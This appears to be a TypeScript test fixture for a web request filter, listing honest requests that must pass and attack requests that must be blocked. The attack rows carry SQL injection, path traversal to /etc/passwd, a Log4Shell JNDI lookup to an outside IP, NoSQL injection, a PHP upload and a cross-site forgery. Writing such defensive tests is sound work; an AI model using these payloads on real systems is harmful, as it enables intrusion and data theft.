@@ -1,0 +1,135 @@
+import type { AppRequest } from './app.ts';
+
+export interface Row {
+  readonly name: string;
+  readonly request: AppRequest;
+}
+
+interface AttackRow extends Row {
+  /** Of the evidence, or its beginning, as the log names it. */
+  readonly place: string;
+}
+
+const sqli = "' OR 1=1 --";
+const enc = encodeURIComponent;
+const form = { 'content-type': 'application/x-www-form-urlencoded' };
+const json = { 'content-type': 'application/json' };
+
+function part(disposition: string, text: string): Pick<AppRequest, 'method' | 'headers' | 'body'> {
+  return {
+    method: 'POST',
+    headers: { 'content-type': 'multipart/form-data; boundary=frontier' },
+    body:
+      `--frontier\r\ncontent-disposition: form-data; ${disposition}\r\n\r\n${text}\r\n` +
+      '--frontier--\r\n',
+  };
+}
+
+function post(headers: Readonly<Record<string, string>>, body: string | Buffer): AppRequest {
+  return { method: 'POST', headers, body };
+}
+
+/** What must reach the application, with its body untouched. */
+export const honest: readonly Row[] = [
+  { name: 'a query', request: { target: `/search?q=${enc("Conan O'Brien")}&page=2&page=3` } },
+  { name: 'a path', request: { target: '/caf%C3%A9/10%25%20off' } },
+  { name: 'a cookie', request: { headers: { cookie: 'theme=dark; seen=3; theme=light' } } },
+  { name: 'a form', request: post(form, `text=${enc('select the best; drop by!')}&text=&a=1`) },
+  {
+    name: 'JSON',
+    request: post(json, '{"a":{"b":["日本語",1,null]},"url":"https://a.example//b"}'),
+  },
+  { name: 'JSON that is a text', request: post(json, '"hello"') },
+  { name: 'broken JSON', request: post(json, '{"a":') },
+  { name: 'a plain text', request: post({ 'content-type': 'text/plain' }, "it's 5 o'clock") },
+  { name: 'bytes', request: post({ 'content-type': 'image/png' }, Buffer.from([137, 80, 255, 0])) },
+  { name: 'a post without a body', request: { method: 'POST' } },
+  { name: 'a form with a file', request: part('name="f"; filename="cat.png"', 'meow') },
+  {
+    name: 'a post from the same site',
+    request: post({ ...form, ...siteOf('same-origin') }, 'a=b'),
+  },
+];
+
+/** What must not. */
+export const attacks: readonly AttackRow[] = [
+  { name: 'in a query', request: { target: `/search?q=${enc(sqli)}` }, place: '/query.q' },
+  {
+    name: 'in the second of a name in the query',
+    request: { target: `/search?q=a&q=${enc(sqli)}` },
+    place: '/query.q/1',
+  },
+  {
+    name: 'in the first of a name in the query',
+    request: { target: `/search?q=${enc(sqli)}&q=a` },
+    place: '/query.q/0',
+  },
+  {
+    name: 'in a name',
+    request: { target: `/search?${enc(sqli)}=1` },
+    place: 'the member name of /query.',
+  },
+  {
+    name: 'in the path',
+    request: { target: `/files/${enc('../../../etc/passwd')}` },
+    place: '/path',
+  },
+  {
+    name: 'in bytes that are no text',
+    request: { target: '/?f=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd' },
+    place: '/query.f',
+  },
+  { name: 'in a cookie', request: { headers: { cookie: `a=b; c=${sqli}` } }, place: '/cookie.c' },
+  {
+    name: 'in a header',
+    request: { headers: { 'user-agent': '${jndi:ldap://203.0.113.9/a}' } },
+    place: '/header.user-agent',
+  },
+  { name: 'in a form', request: post(form, `a=1&b=${enc(sqli)}`), place: '/body.b' },
+  { name: 'in JSON', request: post(json, JSON.stringify({ a: [{ b: sqli }] })), place: '/body' },
+  { name: 'in a name of JSON', request: post(json, '{"a":{"$where":"1"}}'), place: '' },
+  {
+    name: 'in JSON under a name that comes twice',
+    request: post(json, `{"a":"${sqli}","a":"x"}`),
+    place: '/body',
+  },
+  {
+    name: 'in JSON that only some readers take',
+    request: post(json, `{"n":NaN,"a":"${sqli}"}`),
+    place: '/body',
+  },
+  {
+    name: 'in JSON with a comment',
+    request: post(json, `{"a":"${sqli}"/* */}`),
+    place: '/body',
+  },
+  {
+    name: 'in a plain text',
+    request: post({ 'content-type': 'text/plain' }, sqli),
+    place: '/body',
+  },
+  { name: 'in a body of no type', request: post({}, sqli), place: '/body' },
+  { name: 'in a field of a multipart form', request: part('name="a"', sqli), place: '/body' },
+  {
+    name: 'in the name of a file',
+    request: part('name="f"; filename="me.php"', '<?php'),
+    place: '/body',
+  },
+  {
+    name: 'in a chunked body',
+    request: {
+      ...post(form, `a=${enc(sqli)}`),
+      headers: { ...form, 'transfer-encoding': 'chunked' },
+    },
+    place: '/body.a',
+  },
+  {
+    name: 'from another site',
+    request: post({ ...form, ...siteOf('cross-site') }, 'amount=100&to=mallory'),
+    place: '/header.origin',
+  },
+];
+
+function siteOf(site: string): Readonly<Record<string, string>> {
+  return { 'sec-fetch-site': site, origin: `https://${site}.example` };
+}
